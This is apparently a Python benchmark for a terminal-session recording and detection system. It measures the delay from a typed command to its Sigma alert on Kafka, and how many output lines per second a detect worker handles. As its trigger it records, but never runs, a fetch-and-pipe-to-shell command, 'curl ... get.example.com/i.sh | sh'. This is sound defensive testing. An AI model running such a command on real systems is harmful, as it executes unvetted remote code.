"""Detection on terminal output: typed line -> alert latency, and output lines/s through detect.

Real servers (PostgreSQL, broker) and the real workers as separate processes, as ``up`` runs
them: ``sessionvault worker persist``, ``worker segments`` and ``worker detect``.

- Latency: sessions recorded through :class:`ingest.sdk.SessionRecorder` at a steady rate; in
  each, a prompt, then ``curl -fsSL https://get.example.com/i.sh | sh`` and Enter, then the
  session ends. The latency of a session is from the moment the command line was written to
  the recorder (wall clock) to the moment its ``alert.sigma`` event is read back from the
  events topic by a plain consumer in this process. It covers the recorder's batching, the
  persist transaction, the segmenter's rendering, the detect worker's feed poll (at most one
  poll wait, 0.5 s, after the segmenter's commit) and the alert's produce. p50 / p99 / max.
- Throughput: with the detect worker stopped, sessions of harmless output lines are stored
  and rendered (the feed fills); then one in-process :class:`siem.detect.DetectWorker` drains
  the feed through :meth:`~siem.detect.DetectWorker.detect_output` (take, evaluate every
  starter rule, produce, delete). Output lines per second of that drain.
"""

from __future__ import annotations

import asyncio
import statistics
import subprocess
import threading
import time
from typing import Any

import orjson
from kafka import KafkaConsumer, TopicPartition

from bench._common import SESSIONVAULT, Figure, bench_main
from bench.servers import BenchStack, bench_stack
from ingest.sdk import SessionRecorder, Transport
from schemas.models import SessionInfo
from siem.detect import DetectWorker
from storage import pg

NAME = "detect"
TENANT = "bench-detect"
PROMPT = b"\x1b[01;32malice@web-1\x1b[00m:~$ "
COMMAND = b"curl -fsSL https://get.example.com/i.sh | sh"


def _worker(bs: BenchStack, *args: str) -> subprocess.Popen[bytes]:
    log = bs.home / "logs" / f"bench-detect-{'-'.join(args)}.log"
    log.parent.mkdir(parents=True, exist_ok=True)
    return subprocess.Popen(
        [SESSIONVAULT, "worker", *args],
        env=bs.worker_env(),
        stdin=subprocess.DEVNULL,
        stdout=log.open("wb"),
        stderr=subprocess.STDOUT,
    )


def _stop(procs: list[subprocess.Popen[bytes]]) -> None:
    for p in procs:
        if p.poll() is None:
            p.terminate()
    for p in procs:
        try:
            p.wait(20)
        except subprocess.TimeoutExpired:
            p.kill()


class AlertWatcher:
    """Reads the events topic from the start (no group) and notes when each session's first
    alert arrives."""

    def __init__(self, bs: BenchStack) -> None:
        s = bs.settings
        self.seen: dict[str, float] = {}
        self._stop = threading.Event()
        self._consumer = KafkaConsumer(
            bootstrap_servers=s.kafka_bootstrap.split(","),
            enable_auto_commit=False,
            fetch_max_wait_ms=20,
        )
        parts = self._consumer.partitions_for_topic(s.topic_events) or set()
        tps = [TopicPartition(s.topic_events, p) for p in parts]
        self._consumer.assign(tps)
        self._consumer.seek_to_beginning(*tps)
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            for batch in self._consumer.poll(timeout_ms=50).values():
                now = time.time()
                for m in batch:
                    try:
                        doc: dict[str, Any] = orjson.loads(m.value)
                    except orjson.JSONDecodeError:
                        continue
                    sid = doc.get("sid")
                    if doc.get("event") == "alert.sigma" and isinstance(sid, str):
                        self.seen.setdefault(sid, now)

    def wait_for(self, sids: list[str], timeout_s: float) -> None:
        deadline = time.monotonic() + timeout_s
        while not all(s in self.seen for s in sids):
            if time.monotonic() > deadline:
                missing = [s for s in sids if s not in self.seen]
                raise RuntimeError(f"no alert for {len(missing)} sessions after {timeout_s}s")
            time.sleep(0.05)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self._consumer.close()


def _record(transport: Transport, bs: BenchStack, lines: list[bytes]) -> tuple[str, float]:
    """One session: prompt, ``lines`` (each followed by CRLF), end. Returns (sid, wall time
    the last line was written)."""
    rec = SessionRecorder(
        bs.settings,
        SessionInfo(
            time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
            120,
            40,
            user="alice",
            login="root",
            server_id="web-1",
        ),
        transport=transport,
    )
    rec.output(PROMPT)
    written = 0.0
    for line in lines:
        rec.output(line + b"\r\n")
        written = time.time()
    rec.close(0)
    return rec.sid, written


def _latency(bs: BenchStack, sessions: int, rate: float) -> list[Figure]:
    watcher = AlertWatcher(bs)
    transport = Transport(bs.settings)
    try:
        # Warm-up: the workers' group joins and first connections are not part of the figure.
        sid, _ = _record(transport, bs, [COMMAND])
        watcher.wait_for([sid], 120)
        written: dict[str, float] = {}
        t_next = time.monotonic()
        for _ in range(sessions):
            time.sleep(max(0.0, t_next - time.monotonic()))
            t_next += 1 / rate
            sid, t = _record(transport, bs, [COMMAND])
            written[sid] = t
        watcher.wait_for(list(written), 120)
        lat = sorted((watcher.seen[s] - t) * 1000 for s, t in written.items())
    finally:
        transport.close(30)
        watcher.close()
    p99 = lat[min(len(lat) - 1, round(0.99 * (len(lat) - 1)))]
    note = f"{sessions} sessions at {rate:g}/s, each typing curl|sh once"
    return [
        Figure(NAME, "typed line -> alert on Kafka, p50", statistics.median(lat), "ms", note=note),
        Figure(
            NAME,
            "typed line -> alert on Kafka, p99",
            p99,
            "ms",
            target="< 2000",
            met=p99 < 2000,
            note=note,
        ),
        Figure(NAME, "typed line -> alert on Kafka, max", lat[-1], "ms"),
    ]


async def _clean(dsn: str) -> None:
    """Leftovers of earlier runs (the bench database is kept): this tenant's rendered text and
    alerts, and the whole detect feed (other benchmarks' sessions feed it with no detect worker
    running, and the throughput figure must count this run's lines only)."""
    conn = await pg.connect(dsn)
    try:
        for table in ("text_segments", "session_text", "segment_queue", "events"):
            await conn.execute(f"DELETE FROM {table} WHERE tenant = $1", TENANT)
        await conn.execute("TRUNCATE detect_feed")
    finally:
        await conn.close()


async def _count(dsn: str, sql: str) -> int:
    conn = await pg.connect(dsn)
    try:
        return int(await conn.fetchval(sql))
    finally:
        await conn.close()


def _throughput(bs: BenchStack, sessions: int, lines: int) -> list[Figure]:
    rendered = f"SELECT count(*) FROM text_segments WHERE tenant = '{TENANT}'"
    # The prompt shares the first line, so each session renders ``lines`` lines.
    want = asyncio.run(_count(bs.dsn, rendered)) + sessions * lines
    transport = Transport(bs.settings)
    try:
        for i in range(sessions):
            body = [f"{i:05d}-{j:05d} drwxr-xr-x 2 root root 4096 Nov 21 build-{j}".encode()
                    for j in range(lines)]  # fmt: skip
            _record(transport, bs, body)
    finally:
        transport.close(60)
    deadline = time.monotonic() + 600
    while asyncio.run(_count(bs.dsn, rendered)) < want:
        if time.monotonic() > deadline:
            raise RuntimeError("the segmenter did not render the corpus in 600 s")
        time.sleep(0.5)
    while asyncio.run(_count(bs.dsn, "SELECT count(*) FROM segment_queue")):
        time.sleep(0.2)
    worker = DetectWorker(bs.settings)

    async def drain_feed() -> float:
        try:
            t0 = time.perf_counter()
            while await worker.detect_output(max_batches=50):
                pass
            return time.perf_counter() - t0
        finally:
            await worker._close()

    seconds = asyncio.run(drain_feed())
    n = worker.stats.output_segments
    return [
        Figure(
            NAME,
            "output lines through one detect worker",
            n / seconds,
            "lines/s",
            note=f"{n:,} lines, {len(worker.engine.rule_ids)} rules, feed drained in "
            f"{seconds:.1f} s",
        ),
    ]


def run(quick: bool) -> list[Figure]:
    sessions, rate = (20, 4.0) if quick else (200, 10.0)
    bulk_sessions, bulk_lines = (20, 500) if quick else (100, 2000)
    figures: list[Figure] = []
    with bench_stack(TENANT, partitions=4) as bs:
        asyncio.run(_clean(bs.dsn))
        workers = [_worker(bs, "persist"), _worker(bs, "segments")]
        try:
            detect = _worker(bs, "detect")
            workers.append(detect)
            print("  typed line -> alert ...", flush=True)
            figures += _latency(bs, sessions, rate)
            _stop([detect])
            print("  output lines/s through detect ...", flush=True)
            figures += _throughput(bs, bulk_sessions, bulk_lines)
        finally:
            # Before the servers stop: a worker left running would join the next run's broker
            # (same port) and disturb it.
            _stop(workers)
    return figures


if __name__ == "__main__":
    raise SystemExit(bench_main(run, "detection on terminal output: latency and lines/s"))
